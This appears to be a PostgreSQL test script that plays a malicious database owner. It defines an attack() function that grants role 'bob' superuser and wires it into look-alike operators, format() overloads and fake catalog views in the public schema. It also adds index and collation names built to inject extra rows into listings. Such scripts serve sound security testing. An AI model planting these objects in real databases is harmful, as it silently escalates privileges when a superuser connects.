-- What a role that owns a database, and is nothing else, can lay out there for the superuser.
CREATE FUNCTION public.attack() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
	EXECUTE 'ALTER ROLE bob SUPERUSER';
	RETURN true;
EXCEPTION WHEN OTHERS THEN RETURN true;
END $$;
CREATE FUNCTION public.equals(oid, regclass) RETURNS boolean LANGUAGE sql AS 'SELECT public.attack()';
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regclass, FUNCTION = public.equals);
CREATE FUNCTION public.differs(text, name) RETURNS boolean LANGUAGE sql AS 'SELECT public.attack()';
CREATE OPERATOR public.<> (LEFTARG = text, RIGHTARG = name, FUNCTION = public.differs);
CREATE FUNCTION public.format(text, name) RETURNS text LANGUAGE sql AS 'SELECT public.attack()::text';
CREATE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE sql AS 'SELECT public.attack()::text';
CREATE FUNCTION public.format(text, text) RETURNS text LANGUAGE sql AS 'SELECT public.attack()::text';
CREATE VIEW public.pg_class AS SELECT oid, relname, relnamespace, relkind FROM pg_catalog.pg_class WHERE public.attack();
CREATE VIEW public.pg_extension AS SELECT oid, extname, extversion FROM pg_catalog.pg_extension WHERE public.attack();
CREATE VIEW public.pg_collation AS SELECT oid, collname, collnamespace, collversion FROM pg_catalog.pg_collation WHERE public.attack();
CREATE VIEW public.pg_database AS SELECT oid, datname, datcollversion, datallowconn, datconnlimit FROM pg_catalog.pg_database WHERE public.attack();
CREATE VIEW public.pg_index AS SELECT indexrelid, indcollation FROM pg_catalog.pg_index WHERE public.attack();
-- An index whose name goes on as a row of a list of indexes.
CREATE TABLE public.t(s text);
INSERT INTO public.t SELECT 'x' || g FROM pg_catalog.generate_series(1, 100) g;
CREATE INDEX i ON public.t(s);
CREATE INDEX :"odd_index" ON public.t(s);
CREATE COLLATION public.:"odd" (PROVIDER = icu, LOCALE = 'de', VERSION = :'odd');
CREATE TABLE public.own(s text COLLATE public.:"odd" PRIMARY KEY);
INSERT INTO public.own SELECT 'x' || g FROM pg_catalog.generate_series(1, 100) g;
